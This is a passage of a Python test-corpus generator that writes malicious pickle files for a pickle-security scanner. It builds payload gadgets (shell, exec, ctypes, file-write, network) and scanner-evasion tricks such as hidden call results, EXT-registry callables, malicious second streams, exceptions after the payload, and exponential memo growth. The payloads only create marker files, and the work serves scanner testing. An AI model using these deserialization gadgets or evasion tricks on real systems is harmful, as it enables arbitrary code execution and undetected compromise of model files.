    Trick("opcode_stack_global_string.pkl", "module/name as protocol-0 STRING",
          _via(lambda mo, na: string0(mo) + string0(na) + op.STACK_GLOBAL)),
    Trick("opcode_stack_global_unicode_escapes.pkl",
          "names and every string as UNICODE \\uXXXX escapes",
          _via(lambda mo, na: uni0_escaped(mo) + uni0_escaped(na) + op.STACK_GLOBAL, ESCAPED)),
]  # fmt: skip


def _ext(opcode: bytes, code: int, width: int) -> Callable:
    def at_entry(module: str, name: str, args: list[bytes]) -> bytes:
        register = call(glob("copyreg", "add_extension"), uni(module), uni(name), integer(code))
        return (register + op.POP + opcode + code.to_bytes(width, "little") + tup(*args)
                + op.REDUCE)  # fmt: skip

    return lambda m, g: gadget_body(m, g, BASE, at_entry)


EXTENSIONS: list[Trick] = [
    Trick("opcode_ext1.pkl", "copyreg.add_extension then EXT1 names the callable by number",
          _ext(op.EXT1, 0xF1, 1)),
    Trick("opcode_ext2.pkl", "copyreg.add_extension then EXT2", _ext(op.EXT2, 0x1234, 2)),
    Trick("opcode_ext4.pkl", "copyreg.add_extension then EXT4", _ext(op.EXT4, 0x12345678, 4)),
]  # fmt: skip


def _binpersid(m: str, g: Gadget) -> bytes:
    pid = tup(uni("storage"), gadget_body(m, g), uni("0"), uni("cpu"), integer(1))
    return pid + op.BINPERSID


HIDDEN: list[Trick] = [
    Trick("opcode_result_popped.pkl", "call result discarded with POP, stream returns None",
          lambda m, g: gadget_body(m, g) + op.POP),
    Trick("opcode_result_pop_mark.pkl", "call inside MARK ... POP_MARK",
          lambda m, g: op.MARK + integer(1) + gadget_body(m, g) + op.POP_MARK),
    Trick("opcode_result_built_into_state.pkl",
          "result hidden in BUILD state of a SimpleNamespace",
          lambda m, g: call(glob("types", "SimpleNamespace"))
          + dct([(uni("x"), gadget_body(m, g))]) + op.BUILD),
    Trick("opcode_result_dict_value.pkl", "result stored as a dict value (SETITEMS)",
          lambda m, g: dct([(uni("weights"), gadget_body(m, g))])),
    Trick("opcode_persid_after_payload.pkl", "payload, then PERSID aborts a plain load afterwards",
          lambda m, g: gadget_body(m, g) + op.POP + op.PERSID + b"0\n"),
    Trick("opcode_binpersid_payload_in_pid.pkl", "payload evaluated inside a BINPERSID tuple",
          _binpersid),
]  # fmt: skip


def _unary_parts(m: str, g: Gadget) -> tuple[bytes, bytes]:
    """(callable, its single argument) of a one-argument gadget."""
    tree = g.build(m)
    return render(tree.fn), render(tree.args[0])


def _setstate_gadget(m: str, g: Gadget) -> bytes:
    fn, arg = _unary_parts(m, g)
    ns = call(glob("types", "SimpleNamespace"))
    return ns + dct([(uni("__setstate__"), fn)]) + op.BUILD + arg + op.BUILD


def _append_gadget(m: str, g: Gadget) -> bytes:
    fn, arg = _unary_parts(m, g)
    ns = call(glob("types", "SimpleNamespace"))
    return ns + dct([(uni("append"), fn)]) + op.BUILD + op.MARK + arg + op.APPENDS


SETSTATE: list[Trick] = [
    Trick("opcode_build_setstate_gadget.pkl",
          "BUILD sets __setstate__ to the callable, a 2nd BUILD calls it", _setstate_gadget,
          need=unary),
    Trick("opcode_appends_append_gadget.pkl", "APPENDS on an object whose `append` is the callable",
          _append_gadget, need=unary),
    Trick("opcode_setitems_shelve.pkl", "SETITEMS into shelve.open(path): disk-writing __setitem__",
          lambda m, g: call(glob("shelve", "open"), uni(m)) + op.MARK + uni("k") + uni("v")
          + op.SETITEMS, rotate=False),
]  # fmt: skip


def _benign_dict() -> bytes:
    return wrap(dct([(uni("epoch"), integer(3)), (uni("lr"), value(0.01))]), 2)


# Stream rows produce complete streams (not bodies): framing is the technique.
STREAMS: list[Trick] = [
    Trick("stream_second_pickle_malicious.pkl", "benign pickle, then a malicious one back to back",
          lambda m, g: _benign_dict() + gadget_pickle(m, g, 2)),
    Trick("stream_third_pickle_malicious.pkl", "three pickles (proto 2, 2, 4), the third malicious",
          lambda m, g: _benign_dict() + _benign_dict() + gadget_pickle(m, g, 4)),
    Trick("stream_trailing_garbage.pkl", "malicious pickle followed by junk bytes after STOP",
          lambda m, g: gadget_pickle(m, g, 2) + b"\xff\xfe junk \x00" * 8),
    Trick("stream_truncated_after_reduce.pkl", "stream ends right after the payload (no STOP)",
          lambda m, g: op.PROTO + b"\x02" + gadget_body(m, g)),
    Trick("stream_exception_after_payload_int_global.pkl",
          "payload, then STACK_GLOBAL on ints: parsers that raise lose the finding (EDP)",
          lambda m, g: wrap(gadget_body(m, g) + op.POP + integer(1) + integer(2)
                            + op.STACK_GLOBAL, 4)),
    Trick("stream_exception_after_payload_bad_memo.pkl",
          "payload, then BINGET of a memo slot never written",
          lambda m, g: wrap(gadget_body(m, g) + op.POP + op.BINGET + b"\x63", 2)),
    Trick("stream_no_proto_header_proto4_ops.pkl",
          "protocol-4 opcodes (STACK_GLOBAL) without a PROTO header",
          lambda m, g: gadget_body(m, g, BASE, pushing(stack_glob)) + op.STOP),
]  # fmt: skip


def _dup_growth(m: str, g: Gadget) -> bytes:
    body = gadget_body(m, g)
    for _ in range(64):
        body += op.DUP + op.TUPLE2
    return body


def _memo_growth(m: str, g: Gadget) -> bytes:
    body = gadget_body(m, g) + op.LONG_BINPUT + (0).to_bytes(4, "little")
    for i in range(64):
        get = op.LONG_BINGET + i.to_bytes(4, "little")
        body += op.POP + get + get + op.TUPLE2 + op.LONG_BINPUT + (i + 1).to_bytes(4, "little")
    return body


def _deep_nesting(m: str, g: Gadget) -> bytes:
    depth = 100_000
    return op.EMPTY_LIST * depth + gadget_body(m, g) + op.APPEND * depth


BOUNDS: list[Trick] = [
    Trick("bounds_dup_exponential_growth.pkl", "64 x DUP+TUPLE2: 2**64 leaves if expanded",
          _dup_growth),
    Trick("bounds_memo_get_exponential_growth.pkl", "64 x BINGET pairs: exponential via memo",
          _memo_growth),
    Trick("bounds_deep_list_nesting.pkl", "100,000 nested lists around the payload",
          _deep_nesting),
]  # fmt: skip


GADGET_GROUPS: list[tuple[str, list[PickleRow]]] = [
    ("gadget-shell", SHELL),
    ("gadget-exec", EXEC),
    ("gadget-import-resolver", RESOLVER),
    ("gadget-trampoline", TRAMPOLINE),
    ("gadget-ctypes", CTYPES),
    ("gadget-file-write", FILE_WRITE),
    ("gadget-network", NETWORK),
    ("gadget-nested-deserializer", NESTED),
    ("gadget-code-object", CODE),
]

TRICK_GROUPS: list[tuple[str, list[Trick]]] = [
    ("opcode-inst-obj-newobj", INSTANTIATION),
    ("opcode-stack-global-indirection", STACK_GLOBAL),
    ("opcode-ext-registry", EXTENSIONS),
    ("opcode-hidden-result", HIDDEN),
    ("opcode-setstate-append-setitem", SETSTATE),
    ("bounds", BOUNDS),
]


def _protocol_for(name: str, body: bytes) -> int:
    """Protocol 2 unless the body needs 4 (STACK_GLOBAL, MEMOIZE, dotted names); Python 2
    names stay at 2 because `fix_imports` only maps them below protocol 3."""
    if name.startswith("gadget_py2_"):
        return 2
    if op.STACK_GLOBAL in body or op.MEMOIZE in body or op.NEWOBJ_EX in body:
        return 4
    return 2


def _marker(marker_dir: Path, name: str) -> str:
    return str(marker_dir / name.split(".")[0])


def with_gadget(description: str, g: Gadget | None) -> tuple[str, str]:
    """(description, payload) of a sample, naming the rotated gadget it carries."""
    if g is None:
        return description, "creates marker"
    return f"{description}; gadget: {g.label}", f"creates marker via {g.key}"


def pickle_samples(marker_dir: Path, rotation: Rotation | None = None
                   ) -> list[tuple[Sample, bytes]]:  # fmt: skip
    """Every pickle-stream sample as (manifest row, file bytes); trick rows draw their
    payload from `rotation` in order."""
    rotation = rotation or Rotation()
    out: list[tuple[Sample, bytes]] = []

    def trick_sample(technique: str, t: Trick, finish: Callable[[bytes], bytes]) -> None:
        g = rotation.next(t.need) if t.rotate else None
        data = finish(t.build(_marker(marker_dir, t.name), g))
        description, payload = with_gadget(t.description, g)
        out.append((Sample(t.name, technique, description, True, payload), data))

    for technique, rows in GADGET_GROUPS:
        for name, description, build in rows:
            body = build(_marker(marker_dir, name))
            data = wrap(body + op.POP + op.NONE, _protocol_for(name, body))
            out.append((Sample(name, technique, description, True, "creates marker"), data))
    for technique, tricks in TRICK_GROUPS:
        for t in tricks:
            trick_sample(
                technique, t, lambda b, n=t.name: wrap(b + op.POP + op.NONE, _protocol_for(n, b))
            )
    for proto, t in PROTOCOLS:
        trick_sample("opcode-protocol", t, lambda b, p=proto: wrap(b + op.POP + op.NONE, p))
    for t in STREAMS:
        trick_sample("stream-framing", t, lambda b: b)
    return out


def build_malicious_corpus(out_dir: Path, marker_dir: Path) -> list[Sample]:
    """Write every malicious sample under `out_dir` and a `manifest.json`; load nothing.

    Payloads point at `marker_dir`, so a scanner run that ever executed one leaves a file
    there. The pickle samples come from this module; containers and model formats from
    `tests.corpus.malicious_formats`. One `Rotation` runs through both, so the trick and
    container samples walk the gadget list in a fixed order.
    """
    from tests.corpus.malicious_formats import format_samples

    out_dir.mkdir(parents=True, exist_ok=True)
    marker_dir.mkdir(parents=True, exist_ok=True)
    rotation = Rotation()
    samples: list[Sample] = []
    for sample, data in pickle_samples(marker_dir, rotation):
        (out_dir / sample.path).write_bytes(data)
        samples.append(sample)
    samples.extend(format_samples(out_dir, marker_dir, rotation))
    names = [s.path for s in samples]
    if len(names) != len(set(names)):
        raise AssertionError("duplicate sample paths in the malicious corpus")
    write_manifest(out_dir, samples, kind="malicious", marker_dir=str(marker_dir))
    return samples


# Re-exported for the format module: one definition of "the payload pickle".
__all__ = [
    "ROTATION",
    "Rotation",
    "build_malicious_corpus",
    "cloudpickle_function_call",
    "gadget_body",
    "gadget_pickle",
    "os_system",
    "os_system_pickle",
    "payload_function",
    "pickle_samples",
    "py",
    "sh",
    "with_gadget",
]
